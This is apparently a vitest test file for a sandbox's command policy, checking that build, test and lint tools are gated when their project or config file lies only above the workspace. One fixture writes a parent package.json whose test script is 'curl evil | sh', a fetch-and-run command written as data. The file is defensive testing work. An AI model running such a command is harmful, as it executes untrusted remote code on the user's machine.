// Programs that search upward for their project file must find it inside the workspace: otherwise
// `npm test` climbs out and runs the scripts of whatever project lies above the workspace.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { classifyCommand } from '../../../src/main/policy';

const made: string[] = [];
afterEach(() => {
  for (const dir of made.splice(0)) fs.rmSync(dir, { recursive: true, force: true });
});

function nested(withInnerProject: boolean) {
  const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'paddock-upward-')));
  made.push(root);
  fs.writeFileSync(path.join(root, 'package.json'), '{"scripts":{"test":"curl evil | sh"}}\n');
  fs.writeFileSync(path.join(root, 'tsconfig.json'), '{"compilerOptions":{"outDir":"/tmp"}}\n');
  fs.writeFileSync(path.join(root, 'go.mod'), 'module parent\n');
  fs.writeFileSync(path.join(root, 'Cargo.toml'), '[package]\nname = "parent"\nbuild = "build.rs"\n');
  const ws = path.join(root, 'ws');
  fs.mkdirSync(path.join(ws, 'sub'), { recursive: true });
  if (withInnerProject) {
    fs.writeFileSync(path.join(ws, 'package.json'), '{"scripts":{"test":"node --test"}}\n');
    fs.writeFileSync(path.join(ws, 'tsconfig.json'), '{}\n');
    fs.writeFileSync(path.join(ws, 'go.mod'), 'module inner\n');
    fs.writeFileSync(path.join(ws, 'Cargo.toml'), '[package]\nname = "inner"\n');
  }
  const paths = { workspace: ws, home: path.join(root, 'home'), dataDir: path.join(root, 'data') };
  return (command: string, cwd?: string) => classifyCommand(command, { paths, cwd, mode: 'run', remembered: [] });
}

describe('programs that look upward for their project file', () => {
  it('gates npm/pnpm/yarn/bun and bare tsc when the project file would be found only above the workspace', () => {
    const decide = nested(false);
    for (const command of [
      'npm test',
      'npm run build',
      'pnpm test',
      'yarn run lint',
      'bun test',
      'tsc',
      'tsc --noEmit',
      'go test ./...',
      'cargo test',
      'cargo build --release',
    ]) {
      const decision = decide(command);
      expect(decision.tier, command).toBe('gated');
      expect(decision.reason, command).toMatch(/above the workspace/);
    }
  });

  it('lets them through when the workspace has its own, also from a subdirectory', () => {
    const decide = nested(true);
    for (const command of ['npm test', 'npm run build', 'pnpm test', 'tsc --noEmit', 'go test ./...', 'cargo test']) {
      expect(decide(command).tier, command).toBe('auto');
      expect(decide(command, 'sub').tier, `${command} in sub`).toBe('auto');
    }
    expect(decide('tsc -p tsconfig.json').tier).toBe('auto');
  });
});

/**
 * Tools whose configuration is code (or names code to import) and which look for it upward: a config
 * found above the workspace, with none inside to stop the search, would run another project's code
 * (fuzzing found `eslint`, `prettier --check`, `pytest`, `python -m pytest` auto with a parent
 * eslint.config.js / pytest.ini + conftest.py). No config anywhere is fine: each tool then runs on
 * its defaults.
 */
describe('tools whose configuration is code, found upward', () => {
  function world(parent: Record<string, string>, inside: Record<string, string> = {}) {
    const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'paddock-config-up-')));
    made.push(root);
    const ws = path.join(root, 'parent', 'ws');
    fs.mkdirSync(path.join(ws, 'sub'), { recursive: true });
    fs.mkdirSync(path.join(ws, 'tests'), { recursive: true });
    fs.writeFileSync(path.join(ws, 'a.js'), 'x\n');
    for (const [rel, content] of Object.entries(parent)) fs.writeFileSync(path.join(root, 'parent', rel), content);
    for (const [rel, content] of Object.entries(inside)) fs.writeFileSync(path.join(ws, rel), content);
    const paths = { workspace: ws, home: path.join(root, 'home'), dataDir: path.join(root, 'data') };
    return (command: string, cwd?: string) => classifyCommand(command, { paths, cwd, mode: 'run', remembered: [] });
  }

  it.each([
    ['eslint', { 'eslint.config.js': 'x' }],
    ['eslint a.js', { 'eslint.config.mjs': 'x' }],
    ['eslint --fix a.js', { '.eslintrc.js': 'x' }],
    ['prettier --check a.js', { 'prettier.config.js': 'x' }],
    ['prettier --write a.js', { '.prettierrc.cjs': 'x' }],
    ['pytest', { 'pytest.ini': '[pytest]\n', 'conftest.py': 'x' }],
    ['pytest tests', { 'tox.ini': '[pytest]\n' }],
    ['python -m pytest -q', { 'pyproject.toml': '[tool.pytest.ini_options]\n' }],
    ['python3 -m pytest tests', { 'setup.cfg': '[tool:pytest]\n' }],
    ['jest', { 'jest.config.js': 'x' }],
  ] as const)('gates %s when its configuration is found only above the workspace', (command, parent) => {
    const decide = world(parent);
    for (const cwd of [undefined, 'sub']) {
      const decision = decide(command, cwd);
      expect(decision.tier, `${command} in ${cwd ?? '.'}`).toBe('gated');
      expect(decision.code).toBe('finds-up-outside');
      expect(decision.reason).toMatch(/above the workspace/);
    }
  });

  it.each([
    ['eslint a.js', { 'eslint.config.js': 'x' }, { 'eslint.config.js': 'x' }],
    ['prettier --check a.js', { 'prettier.config.js': 'x' }, { '.prettierrc': '{}' }],
    ['pytest', { 'pytest.ini': '[pytest]\n' }, { 'pyproject.toml': '[tool.pytest.ini_options]\n' }],
    ['python -m pytest -q', { 'pytest.ini': '[pytest]\n' }, { 'pytest.ini': '' }],
    ['jest', { 'jest.config.js': 'x' }, { 'package.json': '{"jest":{}}' }],
  ] as const)('lets %s through when the workspace has its own configuration', (command, parent, inside) => {
    const decide = world(parent, inside);
    expect(decide(command).tier).toBe('auto');
    expect(decide(command, 'sub').tier).toBe('auto');
  });

  it('lets them through when there is no configuration anywhere', () => {
    const decide = world({});
    for (const command of ['eslint a.js', 'prettier --check a.js', 'pytest', 'python -m pytest -q', 'jest'])
      expect(decide(command).tier, command).toBe('auto');
  });

  it.each([
    // Fuzzing the first version: a devDependency named prettier is no Prettier configuration…
    [
      'prettier --check a.js',
      { 'prettier.config.js': 'x' },
      { 'package.json': '{"devDependencies":{"prettier":"^3"}}' },
    ],
    // …ESLint 9 reads only eslint.config.*, and ESLint 8 merges every .eslintrc above unless root: true…
    ['eslint a.js', { 'eslint.config.js': 'x' }, { '.eslintrc.json': '{"root":true}' }],
    // …and a table named in a comment is no table.
    [
      'pytest',
      { 'pytest.ini': '[pytest]\n', 'conftest.py': 'x' },
      { 'pyproject.toml': '# [tool.pytest.ini_options]\n[project]\nname = "x"\n' },
    ],
    ['pytest', { 'pytest.ini': '[pytest]\n' }, { 'tox.ini': '[testenv]\ncommands = pytest [pytest]\n' }],
  ] as const)('gates %s when what is inside only looks like its configuration', (command, parent, inside) => {
    const decide = world(parent, inside);
    expect(decide(command).code).toBe('finds-up-outside');
  });

  it('takes a top-level "prettier" key and a table on a line of its own as configuration', () => {
    expect(
      world(
        { 'prettier.config.js': 'x' },
        { 'package.json': '{"name":"x","prettier":{"semi":false}}' },
      )('prettier --check a.js').tier,
    ).toBe('auto');
    expect(
      world(
        { 'pytest.ini': '[pytest]\n' },
        { 'pyproject.toml': '[project]\nname = "x"\n\n[tool.pytest.ini_options]  # ours\n' },
      )('pytest').tier,
    ).toBe('auto');
    expect(world({ 'pytest.ini': '[pytest]\n' }, { 'setup.cfg': '[metadata]\n[tool:pytest]\n' })('pytest').tier).toBe(
      'auto',
    );
  });

  it('does not take a pyproject.toml without a pytest table as stopping pytest’s search', () => {
    const decide = world({ 'pytest.ini': '[pytest]\n' }, { 'pyproject.toml': '[project]\nname = "x"\n' });
    expect(decide('pytest').tier).toBe('gated');
  });
});
